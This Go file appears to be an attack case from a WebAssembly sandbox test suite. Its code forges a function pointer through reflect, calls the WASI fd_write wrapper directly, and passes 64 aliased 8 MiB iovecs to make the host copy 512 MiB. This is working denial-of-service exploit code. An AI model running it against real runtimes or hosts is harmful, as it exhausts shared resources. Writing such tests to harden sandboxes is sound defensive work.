// attack: dos-wasi-iovec-amplify
// category: resource-exhaustion
// tries: call the WASI fd_write wrapper without //go:wasmimport or package syscall (reflect finds "syscall.fd_write"
// tries: in the pclntab, a forged funcval calls it) with 64 iovecs that all alias one 8 MiB buffer, so that the
// tries: host's fd_write copies 512 MiB of guest memory for one call before it applies the output cap
// source: function-pointer forging via reflect/unsafe in Go ("Breaking Type Safety in Go", Costa et al., IEEE TSE 2021);
// source: "Wasm host functions must validate guest-controlled lengths" (wasmtime's own fd_write bounds iovecs by the
// source: guest memory, wasi-common IoVec guest slices); CWE-789; CWE-400
// verdict: status in {output_limit, timeout} and output lacks "no pc" and returns within 8 s
// timeout_s: 2
package main

import (
	"fmt"
	"reflect"
)

//go:noinline
func marker() int { return 7 }

// mem is a []byte over linear memory from base, built through reflect.SliceHeader (no "unsafe" import).
func mem(base, n uintptr) []byte {
	var s []byte
	sh := (*reflect.SliceHeader)(reflect.ValueOf(&s).UnsafePointer())
	sh.Data, sh.Len, sh.Cap = base, int(n), int(n)
	return s
}

func u32(b []byte, o uintptr) uint32 {
	return uint32(b[o]) | uint32(b[o+1])<<8 | uint32(b[o+2])<<16 | uint32(b[o+3])<<24
}

func u64(b []byte, o uintptr) uint64 { return uint64(u32(b, o)) | uint64(u32(b, o+4))<<32 }

func cstr(b []byte, o uintptr) string {
	e := o
	for b[e] != 0 {
		e++
	}
	return string(b[o:e])
}

// find returns the PC of a function named want, read from the pclntab in linear memory
// (static data lies below the first heap object; wasm PCs are function index << 16).
func find(want string) uintptr {
	top := reflect.ValueOf(new([64]byte)).Pointer()
	m := mem(0, top)
	markerPC := reflect.ValueOf(marker).Pointer()
	for h := uintptr(4096); h+80 < top; h += 8 {
		if u32(m, h) != 0xfffffff1 || m[h+4] != 0 || m[h+5] != 0 || m[h+7] != 8 {
			continue
		}
		nfunc := uintptr(u64(m, h+8))
		names := h + uintptr(u64(m, h+32))
		pcln := h + uintptr(u64(m, h+64))
		var me, we uint32
		var okm, okw bool
		for i := uintptr(0); i < nfunc; i++ {
			entry, fo := u32(m, pcln+8*i), uintptr(u32(m, pcln+8*i+4))
			switch cstr(m, names+uintptr(int32(u32(m, pcln+fo+4)))) {
			case "main.marker":
				me, okm = entry, true
			case want:
				we, okw = entry, true
			}
		}
		if okm && okw {
			return uintptr(int64(markerPC) + (int64(we)-int64(me))<<16)
		}
	}
	return 0
}

type iovec struct{ buf, n uint32 }

func main() {
	pc := find("syscall.fd_write")
	if pc == 0 {
		fmt.Println("no pc")
		return
	}
	// A forged funcval: the func variable points at a struct holding the wrapper's PC.
	var fdWrite func(fd int32, iovs *iovec, n uint32, nw *uint32) uint32
	fv := &struct{ fn uintptr }{pc}
	*(*uintptr)(reflect.ValueOf(&fdWrite).UnsafePointer()) = reflect.ValueOf(fv).Pointer()
	buf := make([]byte, 8<<20)
	p := uint32(reflect.ValueOf(&buf[0]).Pointer())
	iov := make([]iovec, 64) // 64 x 8 MiB = 512 MiB for the host to copy
	for i := range iov {
		iov[i] = iovec{p, uint32(len(buf))}
	}
	var nw uint32
	fmt.Println("errno", fdWrite(2, &iov[0], uint32(len(iov)), &nw), "written", nw)
}
